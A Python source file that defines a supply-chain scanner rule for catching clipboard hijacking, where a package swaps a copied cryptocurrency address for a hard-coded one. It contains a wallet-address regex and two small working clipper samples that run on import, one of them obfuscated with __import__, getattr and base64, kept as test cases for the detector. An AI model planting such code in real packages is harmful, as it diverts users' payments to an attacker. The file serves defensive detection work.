"""Clipboard swap: an address of a wallet is put in the place of the one that somebody copied."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does, Source
from pratique.finding import Behaviour, Finding, Severity
from pratique.rules.claims import calls, claim, when
from pratique.rules.rule import Example, Rule

_ID = "clipboard-swap"
_ADDRESS = re.compile(
    r"(?<!\w)(?:(?:bc1|ltc1|tb1)[02-9ac-hj-np-z]{20,80}|0x[0-9a-fA-F]{40}|(?:bitcoincash:)?[qp][02-9ac-hj-np-z]{41}|"
    r"[13LMDTX4r][1-9A-HJ-NP-Za-km-z]{24,34}|4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}|[1-9A-HJ-NP-Za-km-z]{43,44})(?!\w)"
)
"""How addresses of wallets are written: Bech32 (BIP 173), Base58Check, and hexadecimal (EIP-55)."""


def _check(facts: PackageFacts) -> Iterator[Finding]:
    for path, call in calls(facts):
        if Does.COPY in call.does and call.phase.automatic and _is_swapped(call):
            message = f"puts an address of a wallet into the clipboard {when(call.phase)}"
            yield claim(_ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL, proven=True)


def _is_swapped(call: Call) -> bool:
    """Whether what is put there stands in the code, and is none of what was there."""
    return not call.taints(Source.CLIPBOARD, Source.CALLER) and any(
        _ADDRESS.search(argument.text) for argument in call.arguments.values()
    )


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.THEFT,
    summary="An address of a wallet that stands in the code is put into the clipboard.",
    gain="Whoever copies an address to pay somebody pastes the attacker's: the money goes there.",
    honest="Programs put an address into the clipboard when their user asks for it, and take it from the user's own wallet.",
    blocks="When it happens by itself: while the package is installed, whenever Python starts, or when it is imported.",
    check=_check,
    loud=(
        Example(
            title="in a thread that watches, by alias",
            files={
                "pkg/__init__.py": "import re, threading, time, pyperclip as c\ndef watch():\n    while True:\n"
                "        if re.match('^(bc1|[13])', c.paste()):\n            c.copy('bc1qexamp7eexamp7eexamp7eexamp7e')\n        time.sleep(1)\n"
                "threading.Thread(target=watch, daemon=True).start()\n"
            },
        ),
        Example(
            title="through __import__ and getattr, behind a decoder",
            files={
                "pkg/__init__.py": "import base64\np = __import__('pyperclip')\nif len(p.paste()) > 25:\n"
                "    getattr(p, 'co' + 'py')(base64.b64decode('MHgwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAx').decode())\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="what the user asks for",
            files={"pkg/__init__.py": "import pyperclip\ndef copy(address):\n    pyperclip.copy(address)\n"},
        ),
        Example(
            title="what was there, in another form",
            files={"pkg/__init__.py": "import pyperclip\npyperclip.copy(pyperclip.paste().strip())\n"},
        ),
    ),
)
